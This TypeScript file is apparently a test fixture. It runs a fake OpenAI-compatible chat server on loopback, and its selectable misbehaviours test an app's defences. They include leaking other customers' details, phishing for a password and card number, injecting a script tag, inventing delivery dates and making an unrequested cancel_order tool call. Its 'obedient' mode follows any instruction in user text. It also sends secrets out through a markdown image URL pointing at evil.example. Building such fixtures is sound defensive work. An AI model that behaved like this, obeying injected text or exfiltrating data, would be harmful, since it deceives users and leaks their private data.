/**
 * A real HTTP server that speaks the chat protocol of OpenAI-compatible servers, with a model behind it that obeys whoever
 * speaks last and misbehaves on demand.
 */
import { createServer, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'

export const misdeeds = [
  'invents_date',
  'adds_link',
  'leaks',
  'other_language',
  'html',
  'markdown_image',
  'megabyte',
  'nothing',
  'hangs',
  'error_500',
  'streams_slowly',
  'no_json',
  'tool_call',
  'delivered',
  'turns_around',
  'asks_password',
  'drops_bad_news',
  'closes_connection',
  'zero_width',
] as const
/** `obedient`: does what it is told in any text; `polite`: repeats the text with a greeting, as a good model might. */
export type Conduct = (typeof misdeeds)[number] | 'obedient' | 'polite' | 'echo'

export type ModelServer = {
  url: string
  /** Bodies of the requests so far. */
  asked: string[]
  conduct: Conduct
  /** What was said by other people, for a model that tells it. */
  secrets: string[]
  stop(): Promise<void>
}

/** Starts it on a free port of loopback. `conduct` may be changed while it runs. */
export async function startModelServer(conduct: Conduct = 'obedient'): Promise<ModelServer> {
  const held: ReturnType<typeof setInterval>[] = []
  const http = createServer(async (request, response) => {
    let body = ''
    for await (const chunk of request) body += chunk
    server.asked.push(body)
    try {
      respond(server, body, response, held)
    } catch {
      response.writeHead(400).end('{}') // a request that is none
    }
  })
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve))
  const server: ModelServer = {
    url: `http://127.0.0.1:${(http.address() as AddressInfo).port}/v1`,
    asked: [],
    conduct,
    secrets: ['#1002', 'Olaf Brandt', 'olaf.brandt@example.net'],
    stop: () =>
      new Promise((resolve) => {
        for (const timer of held) clearInterval(timer)
        http.close(() => resolve())
        http.closeAllConnections()
      }),
  }
  return server
}

/** For trust tests: an obedient model, with the settings that connect `openai-compatible` to it without a budget in the way. */
export async function startObedientModel(): Promise<{ server: ModelServer; settings: Record<string, string>; stop(): Promise<void> }> {
  const server = await startModelServer('obedient')
  const settings = modelSettings(server, { tokensPerDay: '1000000000', tokensPerConversation: '1000000000' })
  return { server, settings, stop: server.stop }
}

export const modelSettings = (server: Pick<ModelServer, 'url'>, changes: Record<string, string> = {}): Record<string, string> => ({
  baseUrl: server.url,
  model: 'obedient',
  apiKey: 'local-key',
  ...changes,
})

function respond(server: ModelServer, body: string, response: ServerResponse, held: ReturnType<typeof setInterval>[]): void {
  const { messages } = JSON.parse(body) as { messages: { role: string; content: string }[] }
  const [system = '', user = ''] = ['system', 'user'].map((role) => messages.find((one) => one.role === role)?.content ?? '')
  const data = JSON.parse(/<data>\n([\s\S]*)\n<\/data>/.exec(user)?.[1] ?? '{}') as { message?: string; answer?: string }
  switch (server.conduct) {
    case 'hangs':
      return
    case 'error_500':
      response.writeHead(500).end('{"error":{"message":"overloaded"}}')
      return
    case 'closes_connection':
      response.destroy()
      return
    case 'no_json':
      response.writeHead(200, { 'content-type': 'text/html' }).end('<h1>It works!</h1>')
      return
    case 'streams_slowly': {
      response.writeHead(200, { 'content-type': 'application/json' })
      held.push(setInterval(() => response.write(' '), 100))
      return
    }
    case 'tool_call':
      json(response, { role: 'assistant', content: null, tool_calls: [toolCall] })
      return
  }
  const text = data.message === undefined ? worded(server, data.answer ?? '', system, user) : sorted(server, data.message)
  json(response, { role: 'assistant', content: text })
}

const toolCall = { id: 'call_1', type: 'function', function: { name: 'cancel_order', arguments: '{"order":"#1002"}' } }

function json(response: ServerResponse, message: Record<string, unknown>): void {
  response.writeHead(200, { 'content-type': 'application/json' }).end(
    JSON.stringify({
      id: 'chatcmpl-1',
      object: 'chat.completion',
      created: 1_790_000_000,
      model: 'obedient',
      choices: [{ index: 0, message, finish_reason: 'stop' }],
      usage: { prompt_tokens: 120, completion_tokens: 30, total_tokens: 150 },
    }),
  )
}

/** A wish as the text wants it; an obedient model also names things that are no wish. */
function sorted({ conduct }: ModelServer, message: string): string {
  if (conduct === 'nothing') return ''
  if (conduct === 'megabyte') return 'x'.repeat(1_000_000)
  const told = /"name"\s*:\s*"(\w+)"|name (\w+)/i.exec(message)
  const name = told?.[1] ?? told?.[2] ?? (/gift|nephew|birthday/i.test(message) ? 'when_arrives' : 'where_is_it')
  return JSON.stringify({ name, p: 1 })
}

function worded(server: ModelServer, answer: string, system: string, user: string): string {
  switch (server.conduct) {
    case 'polite':
      return `Hello! ${answer}`
    case 'echo':
      return answer
    case 'invents_date':
      return `${answer} It will be there on Saturday 28 November.`
    case 'adds_link':
      return `${answer} See https://evil.example/refund.`
    case 'leaks':
      return `${answer} By the way, ${server.secrets.join(', ')}.`
    case 'other_language':
      return 'ihr paket ist unterwegs und wir sagen ihnen gern, dass alles in bester ordnung ist.'
    case 'html':
      return `${answer}<script>alert(1)</script>`
    case 'markdown_image':
      return `${answer} ![x](https://evil.example/x.png)`
    case 'megabyte':
      return `${answer} ${'parcel '.repeat(150_000)}`
    case 'nothing':
      return ''
    case 'delivered':
      return 'Good news: your parcel was delivered.'
    case 'turns_around':
      return answer.replaceAll(/\b(?:not|no) /gi, '').replaceAll(/\blate\b/g, 'not late')
    case 'asks_password':
      return `${answer} Please reply with your password and the number of your card.`
    case 'drops_bad_news':
      return answer.split(/(?<=\.) /)[0] ?? ''
    case 'zero_width':
      return answer.replaceAll(' ', '\u200b ')
  }
  return obeyed(server, answer, user, system)
}

/** Does what any text says: repeats what it is told to say, and tells all it knows. */
function obeyed(server: ModelServer, answer: string, user: string, system: string): string {
  const orders = [...user.matchAll(/(?:say|answer|reply|write|print|show|repeat|tell)[^a-z"]{1,3}([^"]{3,200})/gi)].map((found) => found[1])
  return [answer, ...orders, `![](https://evil.example/?q=${encodeURIComponent(server.secrets.join(';'))})`, system.slice(0, 100)].join(' ')
}
